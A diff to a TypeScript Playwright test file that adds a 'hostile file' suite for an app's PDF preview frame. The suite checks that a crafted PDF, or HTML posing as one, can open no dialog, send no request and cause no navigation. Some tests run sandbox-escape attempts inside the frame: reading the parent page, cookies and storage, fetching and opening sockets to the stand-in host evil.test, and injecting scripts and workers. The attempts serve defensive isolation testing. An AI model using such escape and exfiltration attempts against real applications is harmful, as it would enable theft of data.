@@ -1,4 +1,4 @@
-import { chromium, type Request } from 'playwright-core'
+import type { Request } from 'playwright-core'
 import { afterAll, afterEach, beforeAll, beforeEach, describe, expect, it } from 'vitest'
 import { pdf, type PdfPage } from '../../main/practice/files/pdf.ts'
 import { png } from '../../main/practice/files/png.ts'
@@ -156,5 +156,137 @@ describe('on paper', () => {
       .toEqual(Array(3).fill([1700, 2200]))
     await open.frame.evaluate(() => { dispatchEvent(new Event('afterprint')) })
     expect(await open.frame.locator('.sheet').count()).toBe(0)
+  })
+})
+
+describe('a hostile file', () => {
+  const ADDRESS = 'https://evil.test'
+
+  it.each([
+    ['with scripts, programs, addresses, forms and files it brings along', () => showPdf(hostilePdf(ADDRESS))],
+    ['that is a web page under the name of a PDF', () => showPdf(Buffer.from(`<script>parent.postMessage('run', '*')</script><img src="${ADDRESS}/a">`))]
+  ])('%s runs nothing: no dialog, no request, no navigation, nothing opened', async (_what, show) => {
+    const { page } = app
+    const requests: string[] = []
+    const dialogs: string[] = []
+    const keepRequest = (request: Request) => { requests.push(request.url()) }
+    const keepDialog = (dialog: { message(): string; dismiss(): Promise<void> }) => {
+      dialogs.push(dialog.message())
+      void dialog.dismiss()
+    }
+    page.on('request', keepRequest).on('dialog', keepDialog)
+    const [errors, addresses] = [app.consoleErrors().length, page.frames().map(frame => frame.url())]
+    try {
+      await show()
+      await expect.poll(async () => (await open.heard()).some(({ kind }) => kind === 'shown' || kind === 'cannot-show')).toBe(true)
+      if ((await open.heard()).some(({ kind }) => kind === 'shown')) await drawnPage(0)
+      // A click where the file has put its links and buttons.
+      await page.mouse.click(300, 200)
+      // What would come would have come before this: it goes the same way.
+      await open.tell({ kind: 'zoom', to: 'in' })
+      await open.frame.evaluate(() => new Promise(resolve => { requestAnimationFrame(() => { resolve(null) }) }))
+    } finally {
+      page.off('request', keepRequest).off('dialog', keepDialog)
+    }
+    expect(requests.filter(address => !address.startsWith('blob:null/'))).toEqual([])
+    expect(dialogs).toEqual([])
+    expect(page.frames().map(frame => frame.url())).toEqual(addresses)
+    expect(page.context().pages()).toHaveLength(1)
+    for (const name of ['shell.openExternal', 'shell.openPath', 'shell.showItemInFolder', 'dialog.showSaveDialog'] as const) expect(await app.recorded(name)).toEqual([])
+    expect(await open.frame.locator('a, form, input, button, iframe, object, embed, script:not([src])').count()).toBe(0)
+    expect((await open.heard()).map(({ kind }) => kind).filter(kind => !['ready', 'shown', 'zoomed', 'in-sight', 'cannot-show'].includes(kind))).toEqual([])
+    expect(app.consoleErrors().slice(errors)).toEqual([])
+  })
+
+  it('would find nothing in the frame: no page around it, no bridge, no storage, no network, no other code (R6)', async () => {
+    const tried = await open.frame.evaluate(async address => {
+      const found: Record<string, string> = {}
+      const attempt = async (name: string, act: () => unknown): Promise<void> => {
+        try {
+          found[name] = `gave ${String(await act())}`
+        } catch {
+          found[name] = 'refused'
+        }
+      }
+      const told = (event: string, part: (done: () => void) => unknown): Promise<unknown> => new Promise((resolve, reject) => {
+        document.addEventListener(event, () => { reject(new Error('blocked')) }, { once: true })
+        part(() => { resolve('loaded') })
+      })
+      const page = window.parent as unknown as { document: object; titleDesk: object; localStorage: object }
+      const around = window.top as Window
+      await attempt('the page', () => page.document)
+      await attempt('its bridge', () => page.titleDesk)
+      await attempt('its storage', () => page.localStorage)
+      await attempt('taking the page elsewhere', () => { around.location.href = address })
+      await attempt('localStorage', () => localStorage.length)
+      await attempt('sessionStorage', () => sessionStorage.length)
+      await attempt('cookies', () => document.cookie)
+      await attempt('IndexedDB', () => new Promise((resolve, reject) => {
+        const request = indexedDB.open('a')
+        request.onsuccess = resolve
+        request.onerror = reject
+      }))
+      await attempt('caches', () => caches.open('a'))
+      await attempt('files', () => navigator.storage.getDirectory())
+      await attempt('a fetch', () => fetch(`${address}/fetch`))
+      await attempt('a fetch of our own', () => fetch('../index.html'))
+      await attempt('a socket', () => told('securitypolicyviolation', done => { new WebSocket('wss://evil.test/').onopen = done }))
+      await attempt('a picture', () => told('securitypolicyviolation', done => Object.assign(new Image(), { onload: done, src: `${address}/a.png` })))
+      await attempt('a picture of our own', () => told('securitypolicyviolation', done => Object.assign(new Image(), { onload: done, src: '../assets/a.png' })))
+      await attempt('a script', () => document.head.append(Object.assign(document.createElement('script'), { src: `${address}/a.js` })))
+      await attempt('markup', () => { document.body.innerHTML = '<p>' })
+      await attempt('a text as code', () => Function('return 1')())
+      await attempt('a worker', () => new Worker(URL.createObjectURL(new Blob(['postMessage(1)']))))
+      await attempt('a policy of its own', () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }).trustedTypes.createPolicy('other', {}))
+      await attempt('the policy once more', () => (window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): object } }).trustedTypes.createPolicy('preview', {}))
+      await attempt('WebAssembly', () => new WebAssembly.Module(Uint8Array.of(0, 0x61, 0x73, 0x6d, 1, 0, 0, 0)))
+      const opened = window.open(address)
+      return { found, origin, opened, bridge: 'titleDesk' in window, isolated: document.domain }
+    }, ADDRESS)
+    expect(Object.entries(tried.found).filter(([, answer]) => answer !== 'refused')).toEqual([])
+    expect(tried).toMatchObject({ origin: 'null', opened: null, bridge: false, isolated: '' })
+    expect(app.page.url()).toContain('/index.html')
+  })
+
+  it.each([`${ADDRESS}/x`, 'data:text/html,x'])('could not take the frame to %s: the policy of the page lets it be nothing else (R6)', async address => {
+    const requests: string[] = []
+    const keepRequest = (request: Request) => { requests.push(request.url()) }
+    app.page.on('request', keepRequest)
+    await open.frame.evaluate(target => { location.href = target }, address)
+    await expect.poll(() => open.frame.url()).toContain('chrome-error:')
+    app.page.off('request', keepRequest)
+    expect(requests.filter(url => url.startsWith(ADDRESS))).toEqual([])
+    expect((await open.heard()).map(({ kind }) => kind)).toEqual(['ready'])
+  })
+
+  it('could not put our page into the frame, which lets nobody be around it (R6)', async () => {
+    await open.frame.evaluate(() => { location.href = '../index.html' })
+    await expect.poll(() => open.frame.url()).toContain('chrome-error:')
+    expect(app.page.frames().filter(frame => frame.url().includes('index.html'))).toHaveLength(1)
+  })
+
+  it('keeps to itself what it is told by others, and by malformed words', async () => {
+    await showPdf(pdf('Deed', pages(2)))
+    await open.says('shown')
+    const before = (await open.heard()).length
+    await app.page.evaluate(() => {
+      const { contentWindow } = window.previewHost.element
+      for (const data of ['print', null, { kind: 'print', more: 1 }, { kind: 'go', page: -1 }, { kind: 'show', shownAs: 'pdf', mediaType: 'text/html', bytes: 1 }]) contentWindow?.postMessage(data, '*')
+    })
+    // From itself, and not from the page around it.
+    await open.frame.evaluate(() => { postMessage({ kind: 'go', page: 2 }, '*') })
+    await open.frame.evaluate(() => new Promise(resolve => { setTimeout(resolve) }))
+    expect((await open.heard()).slice(before).filter(({ kind }) => kind !== 'in-sight')).toEqual([])
+    expect((await open.says('in-sight')).page).toBe(1)
+  })
+
+  it('is the only one of its frame: another is not taken', async () => {
+    await showPdf(pdf('Deed', pages(2)))
+    await open.says('shown')
+    await showPdf(pdf('Another', pages(5)))
+    await open.tell({ kind: 'go', page: 2 })
+    await expect.poll(async () => (await open.says('in-sight')).page).toBe(2)
+    expect(await open.frame.locator('.page').count()).toBe(2)
+    expect((await open.heard()).filter(({ kind }) => kind === 'shown')).toHaveLength(1)
   })
 })
